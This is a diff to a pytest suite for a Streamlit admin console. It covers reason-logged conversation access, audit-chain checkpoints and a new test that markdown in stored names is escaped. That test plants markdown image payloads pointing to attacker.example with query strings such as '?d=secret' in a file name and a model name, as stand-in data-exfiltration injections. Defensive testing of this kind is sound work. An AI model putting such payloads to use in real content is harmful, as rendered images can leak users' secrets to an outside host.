@@ -4,15 +4,20 @@ and what it cost; the user sees that visit. Pages refuse anyone else."""
 
 from __future__ import annotations
 
+import contextlib
+import io
 from pathlib import Path
 from typing import Any
 
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from app_pages.rendering import plain_label
 from app_pages.state import UiState
-from fakes.anthropic_server import FakeAnthropic, Reply
+from cli.main import main as cli_main
+from fakes.anthropic_server import Cited, FakeAnthropic, Reply
 from tests.app_pages.support import add_user, app, log_in, page_text
+from tests.app_pages.test_document_pages import POLICY, upload
 
 ROOT_DIR = Path(__file__).resolve().parents[2]
 CONSOLE = "app_pages/admin_console.py"
@@ -60,7 +65,7 @@ def test_an_admin_opens_a_conversation_with_a_reason_and_the_user_sees_it(
 
     alice.switch_page(PRIVACY).run()
     seen = page_text(alice).replace("\\", "")  # shown escaped: plain text, never markdown
-    assert "root opened conversation" in seen
+    assert "root opened your conversation" in seen
     assert "Support ticket 4411: a wrong opening time" in seen
     alice.switch_page("app_pages/chat.py").run()
     next(b for b in alice.button if "harbour" in b.label.lower()).click().run()
@@ -83,8 +88,14 @@ def test_the_audit_tab_shows_a_users_history_and_verifies(claude_env: FakeAnthro
     assert not at.exception
     shown = audit_table(at)
     assert set(shown["actor"]) <= {"alice", "(operator)"} and "answer" in set(shown["kind"])
+    assert any("No checkpoint taken yet" in c.value for c in at.caption)
     next(b for b in at.button if b.label == "Verify the chain").click().run()
     assert any("The audit trail is intact" in s.value for s in at.success)
+    with contextlib.redirect_stdout(io.StringIO()) as printed:
+        assert cli_main(["audit", "checkpoint"]) == 0
+    assert printed.getvalue().startswith("parley-audit-checkpoint v1 ")
+    at.run()
+    assert any(c.value.startswith("Last checkpoint: ") for c in at.caption)
     next(b for b in at.button if b.label == "Prepare export (goes on record)").click().run()
     assert not at.exception
     at.run()
@@ -146,3 +157,37 @@ def test_the_users_page_erases_a_user_once_the_name_is_typed(claude_env: FakeAnt
     assert any("Erased alice: 1 conversations" in s.value for s in at.success)
     at.run()
     assert "alice" not in at.selectbox(key="manage-user").options
+
+
+def test_stored_names_show_in_the_console_as_text(claude_env: FakeAnthropic) -> None:
+    """A file name and a model name are stored as they came: the console's table and
+    captions, which Streamlit renders as Markdown, show them as their characters."""
+    name = "![x](https://attacker.example/?d=secret) notes.md"
+    model = "claude-x ![m](https://attacker.example/?d=model)"
+    add_user("alice", "alice-password")
+    alice = app()
+    log_in(alice, "alice", "alice-password")
+    upload(alice, (name, POLICY))
+    claude_env.enqueue(
+        Reply(segments=["Refunds take ", Cited("30 days", source=0), "."], model=model)
+    )
+    alice.switch_page("app_pages/chat.py").run()
+    alice.chat_input[0].set_value("How long do refunds take?").run()
+    assert not alice.exception
+    under_the_answer = [c.value for c in alice.chat_message[1].caption]
+    assert any(plain_label(model) in line for line in under_the_answer), under_the_answer
+
+    add_user("root", "root-password", admin=True)
+    at = app()
+    log_in(at, "root", "root-password")
+    at.switch_page(CONSOLE).run()
+    at.selectbox[0].set_value("alice").run()
+    at.button[0].click().run()  # Find
+    next(t for t in at.text_input if t.label == "Reason").input("Support ticket 4412: names")
+    next(b for b in at.button if b.label == "Open with this reason").click().run()
+    assert not at.exception
+    (table,) = [t.value for t in at.table]  # what went into the prompt
+    assert list(table["document"]) == [plain_label(name)]
+    assert any(plain_label(model) in c.value for c in at.caption)
+    shown = [*table["document"], *table["allowed as"], *(c.value for c in at.caption)]
+    assert not [s for s in shown if "![" in str(s)]
